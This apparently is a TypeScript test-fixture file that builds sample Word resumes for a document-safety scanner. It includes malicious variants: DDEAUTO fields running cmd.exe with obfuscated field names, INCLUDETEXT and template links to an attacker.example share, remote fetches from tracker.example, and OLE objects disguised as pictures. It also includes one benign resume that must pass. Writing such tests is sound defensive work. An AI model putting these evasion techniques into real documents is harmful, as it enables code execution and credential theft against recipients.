/**
 * Word resumes built in code: fields that fetch or run things (however their code is split or where it
 * sits), embedded objects, and targets outside the package; and genuine documents with fields, links
 * and pictures, which must pass.
 */
import { docxWith, type ZipPart } from './resume-fixtures';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const NAMESPACES =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"';
const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A part whose root element `root` (w:document, w:hdr, w:footnotes...) holds `body`. */
export const wordPart = (name: string, root: string, body: string): ZipPart => ({ name, content: `${XML}<${root} ${NAMESPACES}>${body}</${root}>` });
const documentPart = (body: string) => wordPart('word/document.xml', 'w:document', `<w:body>${body}</w:body>`);
export const relationshipsPart = (name: string, relationships: string): ZipPart => ({
  name,
  content: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`,
});
export const relationship = (id: string, type: string, target: string, mode = '') => `<Relationship Id="${id}" Type="${RELATIONSHIP}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`;

const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
const mark = (type: 'begin' | 'separate' | 'end') => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
/** A complex field: its instruction split into the runs given, then its shown result. */
export const field = (instructionRuns: string[], result = 'result') => `${mark('begin')}${instructionRuns.map(instruction).join('')}${mark('separate')}${run(result)}${mark('end')}`;
const paragraph = (content: string) => `<w:p>${content}</w:p>`;

const withDocument = (body: string, parts: ZipPart[] = []) => docxWith({ parts: [documentPart(body), ...parts] });

export const docxBypasses = {
  /** DDEAUTO runs a command when the document opens; its code is split over three runs. */
  ddeAutoSplitAcrossRuns: () => withDocument(paragraph(field(['DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k calc"']))),
  /** A simple field that fetches a picture from a web server when fields update. */
  includePictureSimpleField: () =>
    withDocument(paragraph('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d "><w:r><w:t>photo</w:t></w:r></w:fldSimple>')),
  /** The field's type written with character references (leading zeros are allowed in them). */
  fieldTypeAsCharacterReferences: () => withDocument(paragraph(field(['&#0068;&#x44;EAUTO cmd.exe "/c calc"']))),
  /** The field's type computed by a nested field: QUOTE 68 68 69 is "DDE". */
  fieldTypeFromNestedField: () =>
    withDocument(paragraph(`${mark('begin')}${field(['QUOTE 68 68 69'], 'DDE')}${instruction(' cmd.exe "/c calc"')}${mark('separate')}${run('x')}${mark('end')}`)),
  ddeInHeader: () => docxWith({ parts: [wordPart('word/header1.xml', 'w:hdr', paragraph(field([' DDE cmd.exe "/c calc" ""'])))] }),
  includeTextInFootnote: () =>
    docxWith({ parts: [wordPart('word/footnotes.xml', 'w:footnotes', `<w:footnote w:id="1">${paragraph(field([' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\cv.docx" ']))}</w:footnote>`)] }),
  linkInFooter: () => docxWith({ parts: [wordPart('word/footer1.xml', 'w:ftr', paragraph(field([' LINK Excel.Sheet.8 "https://tracker.example/a.xls" "Sheet1" \\a '])))] }),
  importInGlossary: () =>
    docxWith({ parts: [wordPart('word/glossary/document.xml', 'w:glossaryDocument', `<w:docParts><w:docPart><w:docPartBody>${paragraph(field([' IMPORT "https://tracker.example/a.png" ']))}</w:docPartBody></w:docPart></w:docParts>`)] }),
  /** An OLE package (it runs what it carries on a double click) shown as an icon. */
  embeddedOlePackage: () =>
    withDocument(paragraph('<w:r><w:object><v:shape id="i" style="width:40pt;height:40pt"><v:imagedata r:id="rId7"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="i" r:id="rId8"/></w:object></w:r>'), [
      { name: 'word/embeddings/oleObject1.bin', content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]) },
    ]),
  /** An OLE object stored under a picture's name: Word goes by the relationship's type, not the name. */
  oleObjectNamedAsPicture: () =>
    docxWith({
      documentRels: relationship('rId8', 'oleObject', 'media/image2.png'),
      parts: [{ name: 'word/media/image2.png', content: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]) }],
    }),
  activeXControl: () => withDocument(paragraph('<w:r><w:object><w:control r:id="rId9" w:name="CommandButton1"/></w:object></w:r>')),
  importedDocument: () => withDocument(`<w:altChunk r:id="rId9"/>${paragraph(run('x'))}`, [{ name: 'word/afchunk.rtf', content: '{\\rtf1 x}' }]),
  /** A remote template on a network share, its relationship not marked external. */
  templateOnShare: () =>
    docxWith({ parts: [relationshipsPart('word/_rels/settings.xml.rels', relationship('rId1', 'attachedTemplate', '\\\\attacker.example\\share\\normal.dotm'))] }),
  /** A picture fetched from a web server, its relationship not marked external. */
  pictureFromWebUnmarked: () => docxWith({ documentRels: relationship('rId5', 'image', 'https://tracker.example/p.png') }),
  /** A mail merge whose data source is a database query, run when the document opens. */
  mailMergeQuery: () =>
    docxWith({ parts: [wordPart('word/settings.xml', 'w:settings', '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>')] }),
};

/** A resume with the fields Word writes (page numbers, a table of contents, hyperlinks, a date), links and a picture. */
export function docxWithFieldsLinksAndPicture(): Buffer {
  const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
  const body = [
    paragraph(field([' TOC \\o "1-3" \\h \\z \\u '], 'Contents')),
    paragraph(field([' HYPERLINK ', '"https://www.linkedin.com/in/jane-applicant" '], 'LinkedIn')),
    paragraph(`<w:hyperlink r:id="rId5">${run('jane@example.com')}</w:hyperlink>`),
    paragraph(`${run('Updated ')}${field(['DATE \\@ "MMMM d, yyyy"'], 'June 1, 2025')}`),
    paragraph(`${mark('begin')}${instruction(' IF ')}${field(['PAGE'], '1')}${instruction(' > 1 "continued" "" ')}${mark('separate')}${mark('end')}`),
    paragraph('<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip r:embed="rId6"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'),
  ].join('');
  return docxWith({
    documentRels: [relationship('rId5', 'hyperlink', 'mailto:jane@example.com', 'External'), relationship('rId6', 'image', 'media/image1.png'), relationship('rId7', 'footer', 'footer1.xml')].join(''),
    parts: [
      documentPart(body),
      wordPart('word/footer1.xml', 'w:ftr', paragraph(`${run('Page ')}${field(['PAGE'], '1')}${run(' of ')}<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple>`)),
      { name: 'word/media/image1.png', content: png },
    ],
  });
}
